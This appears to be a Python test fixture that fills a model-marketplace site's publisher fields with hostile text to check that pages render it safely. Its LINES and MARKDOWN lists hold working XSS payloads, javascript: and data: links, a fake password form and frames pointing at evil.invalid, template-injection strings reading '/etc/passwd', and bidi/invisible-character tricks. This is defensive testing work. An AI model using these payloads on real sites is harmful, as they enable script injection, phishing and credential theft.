"""Texts that strangers write to make a page do what they want, and a market whose every text is one of them."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path
from typing import Any

from tests.site.market import (
    CI,
    DIGITS,
    MODEL_BYTES,
    Market,
    artifact,
    claim,
    failing,
    manifest,
    market,
    measurement,
    notices,
    passing,
    publisher,
    said,
)
from tests.site.payloads import HIT, PAYLOADS
from tooling.model.hidden import HIDDEN, JOINERS
from tooling.model.manifest import Manifest
from tooling.model.release import ReleaseName
from tooling.registry.parsed import Parsed, digest_of
from tooling.verify.judged import BelievedStatement, Judged, Standing, Withdrawal

UNSEEN = re.compile(f"[{HIDDEN}{JOINERS}]")
RLO, PDI, LRI, ZWSP = "\u202e", "\u2069", "\u2066", "\u200b"

HTML = b"<script>alert(1)</script>"

# Each stands in every field that takes one line of free text.
LINES = {
    "script": f"<script>{HIT}</script>",
    "end-of-tag": f"\"'></a></title></script></textarea></style><script>{HIT}</script>",
    "attribute": f'" onmouseover="{HIT}" autofocus onfocus="{HIT}" x="',
    "single-quotes": f"' onload='{HIT}' style='position:fixed;inset:0' x='",
    "image": f'<img src=x onerror="{HIT}"><img src=https://evil.invalid/pixel.png>',
    "svg": f'<svg onload="{HIT}"><animate onbegin="{HIT}" attributeName=x></svg>'
    f"<math><mtext><style><img src=x onerror={HIT}>",
    "frame": "<iframe src=https://evil.invalid/></iframe><object data=https://evil.invalid/></object><base href=https://evil.invalid/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.invalid/'><link rel=stylesheet href=https://evil.invalid/a.css>",
    "form": "<form action=https://evil.invalid/><input name=password><button>Sign in</button></form>",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} @@content@@ @@head@@",
    "comment": f"--><!--><script>{HIT}</script><!--<![CDATA[<script>{HIT}</script>]]>",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt; &#x3c;img src=x onerror={HIT}&#x3e;",
    "bidi": f"safe{RLO}evil{PDI}{LRI} {ZWSP}invisible\u00ad \ufeff\U000e0041",
    "long": "Donaudampfschifffahrtsgesellschaft" * 8,
    "wide": "W" * 299,
    "zalgo": "Z" + "\u0351\u0352\u0353" * 60,
    "rtl": 'مرحبا <b>بالعالم</b> "onclick=1',
}
MARKDOWN = [
    f"[click](javascript:{HIT})",
    f"[click](JaVaScRiPt:{HIT}) [tab](java\tscript:alert(1)) [entity](java&#115;cript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:x) [file](file:///etc/passwd)",
    f'<javascript:{HIT}> <https://example.org/"onmouseover="{HIT}>',
    f'![pixel](https://evil.invalid/pixel.png) ![x](x" onerror="{HIT})',
    f"[title](https://example.org \"' onmouseover='{HIT}\")",
    "[up](../../index.html) [root](/login) [host](//evil.invalid/x) [here](#content)",
    f"[ref]: javascript:{HIT}\n\n[ref]",
    f'<div onclick="{HIT}" style="position:fixed;inset:0">cover</div>',
    "# One\n\n##### Five\n\n###### Six\n\nSetext\n===",
    f'```html"><script>{HIT}</script>\n</code></pre><script>{HIT}</script>\n```',
    f"| a | b |\n|---|---|\n| <img src=x onerror={HIT}> | `<script>` |",
    "&#8238;drow eht&#8237; &#0; &#x200b;",
    "- " * 30 + "deep\n\n" + "> " * 60 + "deeper",
    "`" + "x" * 4000 + "`\n\n" + "y" * 4000 + "\n\n    " + "z" * 4000,
]


def hostile(folder: Path) -> Market:
    """Make a market in which every publisher's text attacks the page."""
    lines = {**LINES, **PAYLOADS}
    releases = tuple(one for name, line in lines.items() for one in (_release(name, line), _older(name, line)))
    hidden = (
        failing(ReleaseName(LINES["image"], LINES["script"], "not-a-version"), "HA006", LINES["script"]),
        failing(ReleaseName("..", "..", LINES["bidi"]), LINES["script"], LINES["image"]),
        failing(ReleaseName("evil", "hidden-one", "1.0.0"), "HA001", LINES["script"]),
    )
    found = market((*releases, *hidden), folder)
    (folder / "index.html").write_bytes(HTML)
    artifacts = {**found.carried.artifacts, digest_of(HTML): folder / "index.html"}
    return replace(found, carried=replace(found.carried, artifacts=artifacts))


def _subject(line: str) -> dict[str, str]:
    """Put a text into the name that a certificate must bear, which is on pages and in a command to copy."""
    subject = "x" + "".join(line.split()).replace("@", "")
    return {"kind": "oidc", "id": "robot", "instance": "demo", "issuer": "https://issuer.example", "subject": subject}


def _older(name: str, line: str) -> Judged:
    """Let an older version differ in everything, so that what changed is hostile on both sides."""
    by = publisher(f"evil-{name}", line, about=line, identities=[_subject(line)])
    release = manifest(
        by,
        f"evil-{name}",
        "0.9.0",
        title=f"{line} before"[:300],
        summary=line,
        description=f"{line}\n\nIt was otherwise. {line}",
        license={"ref": "LicenseRef-evil", "terms": digest_of(HTML)},
        artifacts=[artifact("model.onnx", MODEL_BYTES), artifact("read.html", HTML, "data", "text")],
        inputs=[{"name": f"{line} x"[:300], "type": "float32", "shape": ["batch"], "meaning": line}],
        use={"limitations": line, "risks": line},
    )
    return replace(passing(by, release), notices=notices(release, {"yank": {"reason": line}}), withdrawal=_word(name, line))


def _word(name: str, line: str) -> Withdrawal | None:
    """Take most down; some are on leaderboards and can be downloaded."""
    return None if name in {"bidi", "image", "rtl", "wide"} else Withdrawal("takedown", "other", line, 1, legal=line)


def _release(name: str, line: str) -> Judged:
    by = publisher(f"evil-{name}", line, about=line, identities=[_subject(line)])
    text = "\n\n".join((line, *MARKDOWN))
    release = manifest(
        by,
        f"evil-{name}",
        title=line,
        summary=line,
        description=text,
        artifacts=[
            artifact("model.onnx", MODEL_BYTES, locations=["https://example.org/&%22;alert(1)?a=1&lt"]),
            artifact("index.html", HTML, "data", "text"),
        ],
        inputs=[{"name": line, "type": "float32", "shape": ["batch", 64], "meaning": line}],
        outputs=[{"name": line, "type": "int64", "shape": [], "meaning": line}],
        claims=[claim(DIGITS, "accuracy", -1e300)],
        lineage=[{"relation": "finetuned-from", "name": line, "version": line, "url": "https://example.org/&lt;"}],
        training={"data": line, "code": "https://example.org/`${1}`"},
        use={"intended": text, "limitations": text, "risks": text, "out_of_scope": text},
        compliance={"personal_data": line, "export": line},
        contact={"email": "a@b?body=x&subject=y'", "url": "https://example.org/javascript:alert(1)"},
    )
    advisory = {"id": "EVIL-1", "severity": "low", "summary": line, "url": "https://example.org/&quot;onclick=1"}
    terms = {"price": {"amount": "1", "currency": "EUR"}, "rails": [{"rail": "invoice", "url": "https://example.org/&quot;"}]}
    later = notices(
        release,
        {"yank": {"reason": line}},
        {"advisory": advisory},
        {"offer": {**terms, "refund": line, "note": line}},
    )
    judged = passing(by, release, measurement(release, DIGITS, CI, accuracy=0.9 + len(name) / 100))
    return replace(judged, notices=later, statements=_voices(release, line, text), withdrawal=_word(name, line))


def _voices(release: Parsed[Manifest], line: str, text: str) -> tuple[BelievedStatement, ...]:
    """Let strangers say the same things; the reader of statements lets no hidden characters in."""
    line, text = (UNSEEN.sub("", one) for one in (line, text))
    words: dict[str, Any] = {"text": text[:5000], "language": "en", "name": line}
    deal = {"rail": "invoice", "order": line}
    return (
        said(release, "review", "eve", stars=1, deal=deal, suggestion=text[:5000], **words),
        said(release, "suggestion", "eve", **words),
        said(release, "tombstone", "eve", Standing.MAINTAINER, replaces=release.digest, kind="review", stars=1, reason="court-order"),
    )
